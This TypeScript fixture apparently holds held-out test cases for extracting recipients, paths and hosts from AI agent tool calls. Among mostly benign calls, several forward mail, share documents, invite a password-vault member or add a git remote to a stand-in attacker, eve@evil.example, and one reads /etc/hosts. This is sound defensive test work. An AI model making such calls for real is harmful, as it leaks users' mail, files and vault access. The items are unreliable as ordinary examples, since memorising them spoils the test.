import type { WrittenCall } from './written-call.ts'

/** Calls of tools of the held-out half. */
export const HELD_OUT_CALLS: readonly WrittenCall[] = [
  [
    'sentry get_replay_details',
    { replayUrl: 'https://acme.sentry.example/replays/1', organizationSlug: 'acme' },
    'host=acme.sentry.example',
  ],
  [
    'sentry update_issue',
    { organizationSlug: 'acme', issueId: 'WEB-1', status: 'resolved', assignedTo: 'anna@firm.example' },
    'recipient=anna@firm.example',
  ],
  ['gmail-autoauth create_label', { name: 'Receipts', messageListVisibility: 'show' }, ''],
  [
    'gmail-autoauth send_email',
    {
      to: ['anna@firm.example'],
      cc: ['bo@firm.example'],
      subject: 'Plan',
      body: 'See attached',
      attachments: ['/home/user/plan.pdf'],
    },
    'recipient=anna@firm.example recipient=bo@firm.example path=/home/user/plan.pdf',
  ],
  [
    'gmail-autoauth draft_email',
    { to: ['carl@other.example'], subject: 'Hi', body: 'Text' },
    'recipient=carl@other.example',
  ],
  [
    'gmail-autoauth download_attachment',
    { messageId: 'm1', attachmentId: 'a1', filename: 'x.pdf', savePath: '/home/user/in' },
    'path=x.pdf path=/home/user/in',
  ],
  [
    'gmail-autoauth create_filter',
    { criteria: { from: 'news@shop.example' }, action: { forward: 'eve@evil.example', addLabelIds: ['L1'] } },
    'recipient?=news@shop.example recipient=eve@evil.example',
  ],
  [
    'ms-365 reply-to-chat-message',
    { chatId: '19:abc', chatMessageId: '17', body: { body: { contentType: 'html', content: 'Fine' } } },
    'channel=19:abc',
  ],
  [
    'ms-365 share-drive-item',
    { driveId: 'b!1', driveItemId: '01X', body: { recipients: [{ email: 'eve@evil.example' }], roles: ['read'] } },
    'recipient=eve@evil.example',
  ],
  [
    'ms-365 create-online-meeting',
    { body: { subject: 'Sync', participants: { attendees: [{ upn: 'bo@firm.example' }] } } },
    'recipient=bo@firm.example',
  ],
  ['ms-365 list-supported-time-zones', { top: 5, search: 'Europe' }, ''],
  [
    'lark im_v1_message_create',
    {
      data: { receive_id: 'ou_77', msg_type: 'text', content: '{"text":"Hi"}' },
      params: { receive_id_type: 'open_id' },
    },
    'recipient=ou_77',
  ],
  [
    'lark drive_v1_permissionMember_create',
    { data: { member_type: 'email', member_id: 'eve@evil.example', perm: 'edit' }, path: { token: 'doc1' } },
    'recipient=eve@evil.example',
  ],
  [
    'lark bitable_v1_appTableRecord_search',
    { data: { view_id: 'v1' }, path: { app_token: 'app1', table_id: 't1' } },
    '',
  ],
  [
    'linear linear_createProject',
    { name: 'Q1', description: 'Plans', teamIds: ['t1'], leadId: 'u1', memberIds: ['u2'] },
    'recipient?=u1 recipient?=u2',
  ],
  ['linear linear_addUserToTeam', { teamId: 't1', userId: 'u9', owner: true }, 'recipient=u9'],
  ['linear linear_updateWorkflowState', { id: 's1', name: 'Done', color: '#0f0', position: 3 }, ''],
  ['bitwarden invite_org_member', { email: 'eve@evil.example', type: 2 }, 'recipient=eve@evil.example'],
  [
    'bitwarden import_org_users_and_groups',
    {
      members: [{ email: 'new@firm.example', externalId: 'x1', deleted: false }],
      groups: [],
      overwriteExisting: false,
    },
    'recipient=new@firm.example',
  ],
  ['bitwarden edit_folder', { id: 'f1', name: 'Work' }, ''],
  ['desktop-commander start_process', { command: 'cat /etc/hosts', timeout_ms: 1000 }, 'path=/etc/hosts'],
  ['desktop-commander read_file', { path: 'https://host.example/a.txt', isUrl: true }, 'host=host.example'],
  [
    'desktop-commander write_pdf',
    { path: '/home/user/a.pdf', content: '# Hi', outputPath: '/home/user/b.pdf' },
    'path=/home/user/a.pdf path=/home/user/b.pdf',
  ],
  [
    'desktop-commander move_file',
    { source: '/home/user/a', destination: '/home/user/b' },
    'path=/home/user/a path=/home/user/b',
  ],
  [
    'desktop-commander edit_block',
    { file_path: '/home/user/project/a.ts', old_string: 'let a', new_string: 'const a' },
    'path=/home/user/project/a.ts',
  ],
  [
    'gitlab create_merge_request_thread',
    {
      project_id: 'acme/web',
      merge_request_iid: '4',
      body: 'Why?',
      position: { new_path: 'src/a.ts', old_path: 'src/a.ts', new_line: 4 },
    },
    'path?=src/a.ts',
  ],
  [
    'gitlab update_issue',
    { project_id: 'acme/web', issue_iid: '4', assignee_ids: [12], state_event: 'close' },
    'recipient?=12',
  ],
  [
    'gitlab push_files',
    { project_id: 'acme/web', branch: 'main', files: [{ file_path: 'a.ts', content: 'x' }], commit_message: 'Fix' },
    'path?=a.ts',
  ],
  ['notion API-create-a-comment', { parent: { page_id: 'p1' }, rich_text: [{ text: { content: 'Nice' } }] }, ''],
  ['postman getMocks', { teamId: '1', workspace: 'w1' }, ''],
  [
    'postman createCollectionRequest',
    { collectionId: 'c1', name: 'Get', method: 'GET', url: 'https://api.firm.example/v1' },
    'host=api.firm.example',
  ],
  ['postman createResponseComment', { collectionId: 'c1', responseId: 'r1', body: 'Hm', threadId: 4 }, 'channel=4'],
  ['stripe create_refund', { payment_intent: 'pi_1', amount: 2500 }, 'account=pi_1 amount=2500'],
  ['stripe create_price', { product: 'prod_1', unit_amount: 999, currency: 'eur' }, 'amount=999'],
  [
    'stripe create_payment_link',
    { price: 'price_1', quantity: 1, redirect_url: 'https://shop.example/thanks' },
    'host=shop.example amount?=price_1 amount?=1',
  ],
  ['stripe create_invoice', { customer: 'cus_1', days_until_due: 30 }, 'account=cus_1'],
  [
    'stripe update_subscription',
    { subscription: 'sub_1', proration_behavior: 'none', items: [{ price: 'price_2', quantity: 3 }] },
    'account=sub_1 amount?=price_2 amount?=3',
  ],
  ['stripe create_customer', { name: 'Anna', email: 'anna@firm.example' }, 'recipient=anna@firm.example'],
  [
    'git git_clone',
    { url: 'https://git.example/acme/web.git', path: '/home/user/web', depth: 1 },
    'host=git.example path=/home/user/web',
  ],
  [
    'git git_show',
    { path: '/home/user/project', object: 'HEAD', filePath: 'src/a.ts' },
    'path=/home/user/project path=src/a.ts',
  ],
  [
    'git git_remote',
    { path: '/home/user/project', mode: 'add', name: 'evil', url: 'https://evil.example/x.git' },
    'path=/home/user/project host=evil.example',
  ],
  [
    'google-calendar create-event',
    {
      account: 'work',
      calendarId: 'primary',
      summary: 'Sync',
      start: '2026-11-22T10:00:00',
      attendees: [{ email: 'bo@firm.example' }],
      location: 'Room 4',
    },
    'account?=work recipient=bo@firm.example recipient?=primary',
  ],
  [
    'asana asana_update_task',
    { task_id: '1', name: 'Ship', assignee: 'anna@firm.example', followers: ['77'] },
    'recipient=anna@firm.example recipient=77',
  ],
  ['asana asana_create_task_story', { task_id: '1', text: 'Done' }, ''],
  ['digitalocean firewall-remove-tags', { ID: 'fw1', Tags: ['web'] }, ''],
  [
    'trello attach_file_to_card',
    { boardId: 'b1', cardId: 'c1', fileUrl: 'https://files.example/x.pdf', name: 'x' },
    'host=files.example',
  ],
  ['trello assign_member_to_card', { cardId: 'c1', memberId: 'm7' }, 'recipient=m7'],
  [
    'figma-developer download_figma_images',
    { fileKey: 'k1', nodes: [{ nodeId: '1:2', fileName: 'icon.svg' }], localPath: '/home/user/project/img' },
    'path=/home/user/project/img path=icon.svg',
  ],
  [
    'circleci download_usage_api_data',
    { params: { orgId: 'o1', startDate: '2026-10-01', outputDir: '/home/user/usage' } },
    'path=/home/user/usage',
  ],
  ['hyperbrowser scrape_webpage', { url: 'https://news.example/a', outputFormat: ['markdown'] }, 'host=news.example'],
]
